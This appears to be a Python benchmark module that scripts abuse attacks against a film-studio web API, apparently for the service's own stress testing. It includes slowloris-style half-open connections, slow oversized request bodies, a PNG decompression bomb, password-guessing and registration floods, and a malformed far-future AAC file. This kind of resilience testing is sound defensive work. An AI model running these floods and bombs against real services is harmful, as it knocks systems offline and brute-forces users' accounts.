"""What people do who mean harm, for `benchmarks/abuse.py`: each goes on until it is killed."""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import tempfile
import zlib
from collections.abc import Awaitable, Callable, Coroutine
from fractions import Fraction
from pathlib import Path
from typing import Any
from uuid import uuid4

import av
import httpx
import msgspec
import numpy as np

PASSWORD = "nine lanterns in the fog"
ELSEWHERE = "127.0.0.2"


class Target(msgspec.Struct):
    """What an attacker knows: where the studio is, an account of theirs, and a project of it."""

    url: str
    token: str
    project: str
    shot: str
    victim: str


async def breakdowns(target: Target) -> None:
    """Eight megabytes of one-letter words, to be broken down."""
    body = json.dumps({"text": "a " * (4 << 20), "filename": "a.fountain"})
    await forever(target, lambda c: c.post("/api/v1/scripts/breakdown", content=body), 8)


async def large_pictures(target: Target) -> None:
    """A picture of few bytes and 10,900 by 10,900 pixels."""
    picture = _blank_png(10_900)
    address = f"/api/v1/projects/{target.project}/media"
    await forever(target, lambda c: c.post(address, content=picture), 12)


async def registrations(target: Target) -> None:
    """Accounts with codes that are none, each with a password to be hashed."""

    def register(client: httpx.AsyncClient) -> Awaitable[httpx.Response]:
        account = {"email": f"{uuid4().hex}@example.org", "password": PASSWORD, "name": "X"}
        body = {"code": uuid4().hex, "account": account}
        return client.post("/api/v1/invitations/accept", json=body)

    await forever(target, register, 60, anonymous=True)


async def guesses(target: Target) -> None:
    """Passwords for the honest user's address."""
    await forever(
        target,
        lambda c: c.post("/auth/token", json={"email": target.victim, "password": uuid4().hex}),
        80,
        anonymous=True,
    )


async def slow_bodies(target: Target) -> None:
    """Log-ins of 60 megabytes that come slowly, by nobody."""

    async def drip() -> None:
        with contextlib.suppress(OSError):
            reader, writer = await _connect(target)
            head = "POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 60000000\r\n\r\n"
            writer.write(head.encode())
            for _ in range(600):
                writer.write(b" " * 10_000)
                await writer.drain()
                await asyncio.sleep(0.1)
            await reader.read(1)

    await _many(drip, 60)


async def half_headers(target: Target) -> None:
    """A thousand connections that never finish asking."""

    async def half() -> None:
        with contextlib.suppress(OSError):
            _, writer = await _connect(target)
            while True:
                writer.write(b"GET / HTTP/1.1\r\nX: " if not writer.is_closing() else b"")
                await writer.drain()
                await asyncio.sleep(1)

    await _many(half, 1000)


async def long_shots(target: Target) -> None:
    """Runs of a shot of a million frames, forty at once."""
    address = f"/api/v1/projects/{target.project}/runs"
    await forever(
        target,
        lambda c: c.post(address, json={"targets": [target.shot], "request_id": uuid4().hex}),
        40,
    )


async def renames(target: Target) -> None:
    """Sixty renames of one project at once."""
    address = f"/api/v1/projects/{target.project}"
    await forever(target, lambda c: c.patch(address, json={"title": uuid4().hex}), 60)


async def edits(target: Target) -> None:
    """Operations on a canvas of one's own, as fast as they are taken."""
    address = f"/api/v1/projects/{target.project}/graph/operations"
    op = {"op": "node.set", "id": target.shot, "values": {"text.composition_notes": "x" * 1000}}
    await forever(target, lambda c: c.post(address, json={"ops": [op] * 100}), 20)


async def late_sounds(target: Target) -> None:
    """A tenth of a second of AAC that says it begins after 2,000 seconds, made to a take."""
    headers = {"Authorization": f"Bearer {target.token}"}
    project = f"/api/v1/projects/{target.project}"
    async with httpx.AsyncClient(base_url=target.url, headers=headers, timeout=120) as client:
        sent = await client.post(
            f"{project}/media", content=_late_sound(2000), headers={"X-Filename": "late.m4a"}
        )
        media = sent.raise_for_status().json()
        sound, made, edge = (str(uuid4()) for _ in range(3))
        ops = [
            {"op": "node.add", "id": sound, "type": "film.audio_import", "data": {"media": media}},
            {"op": "node.add", "id": made, "type": "film.audio"},
            {"op": "edge.add", "id": edge, "source": sound, "source_socket": "audio",
             "target": made, "target_socket": "audio"},
        ]  # fmt: skip
        answer = await client.post(f"{project}/graph/operations", json={"ops": ops})
        answer.raise_for_status()
    body = {"targets": [made]}
    await forever(
        target, lambda c: c.post(f"{project}/runs", json={**body, "request_id": uuid4().hex}), 8
    )


async def withheld(target: Target) -> None:
    """Eighty guesses at one password that keep back their last byte, and bring it all at once."""
    body = json.dumps({"email": target.victim, "password": "not it, by any means"}).encode()
    head = f"POST /auth/token HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n"
    head += "Content-Type: application/json\r\nConnection: close\r\n\r\n"
    released = asyncio.Event()

    async def guess() -> None:
        with contextlib.suppress(OSError):
            reader, writer = await _connect(target)
            writer.write(head.encode() + body[:-1])
            await writer.drain()
            await released.wait()
            writer.write(body[-1:])
            await reader.read()
            writer.close()

    async def release() -> None:
        while True:
            await asyncio.sleep(2)
            released.set()
            await asyncio.sleep(0)
            released.clear()

    await asyncio.gather(release(), _many(guess, 80))


def _late_sound(seconds: int) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "late.m4a"
        with av.open(str(path), "w") as container:
            stream = container.add_stream("aac", rate=48_000, layout="stereo")
            frame = av.AudioFrame.from_ndarray(
                np.zeros((2, 4800), np.float32), format="fltp", layout="stereo"
            )
            frame.sample_rate, frame.time_base = 48_000, Fraction(1, 48_000)
            parts = (packet for part in (frame, None) for packet in stream.encode(part))
            for number, packet in enumerate(parts):
                packet.pts = packet.dts = seconds * 48_000 + 1024 * number
                container.mux(packet)
        return path.read_bytes()


ATTACKS: dict[str, Callable[[Target], Coroutine[Any, Any, None]]] = {
    "breakdowns of 8 MB": breakdowns,
    "pictures of 119 megapixels": large_pictures,
    "registrations without a code": registrations,
    "guesses at one password": guesses,
    "slow bodies of 60 MB": slow_bodies,
    "1,000 half-sent headers": half_headers,
    "shots of 1,000,000 frames": long_shots,
    "60 renames at once": renames,
    "floods of edits": edits,
    "AAC that begins after 2,000 s": late_sounds,
    "80 withheld last bytes": withheld,
}


async def forever(
    target: Target,
    ask: Callable[[httpx.AsyncClient], Awaitable[httpx.Response]],
    at_once: int,
    *,
    anonymous: bool = False,
) -> None:
    """Ask again and again, so many at once, whatever the answer."""
    headers = {} if anonymous else {"Authorization": f"Bearer {target.token}"}
    limits = httpx.Limits(max_connections=at_once)
    # From another address than the honest user, as anybody who is elsewhere.
    transport = httpx.AsyncHTTPTransport(local_address=ELSEWHERE, limits=limits)
    faults = 0
    async with httpx.AsyncClient(
        base_url=target.url, headers=headers, transport=transport, timeout=120
    ) as client:

        async def one() -> None:
            nonlocal faults
            while True:
                with contextlib.suppress(httpx.TransportError):
                    answer = await ask(client)
                    if answer.status_code >= 500 and answer.status_code != 507:
                        faults += 1
                        print(answer.status_code, answer.text[:200], flush=True)

        await asyncio.gather(*(one() for _ in range(at_once)))


async def _many(work: Callable[[], Awaitable[None]], at_once: int) -> None:
    async def again() -> None:
        while True:
            await work()
            await asyncio.sleep(0.2)

    await asyncio.gather(*(again() for _ in range(at_once)))


async def _connect(target: Target) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    host, _, port = target.url.removeprefix("http://").partition(":")
    return await asyncio.open_connection(host, int(port), local_addr=(ELSEWHERE, 0))


def _blank_png(side: int) -> bytes:
    """A picture that is large when it is read: rows of zeros, which pack to nearly nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        length, check = len(data).to_bytes(4), zlib.crc32(kind + data).to_bytes(4)
        return length + kind + data + check

    out = io.BytesIO(b"\x89PNG\r\n\x1a\n")
    out.seek(0, io.SEEK_END)
    out.write(chunk(b"IHDR", side.to_bytes(4) * 2 + bytes((8, 2, 0, 0, 0))))
    out.write(chunk(b"IDAT", zlib.compress(bytes(1 + 3 * side) * side)))
    out.write(chunk(b"IEND", b""))
    return out.getvalue()
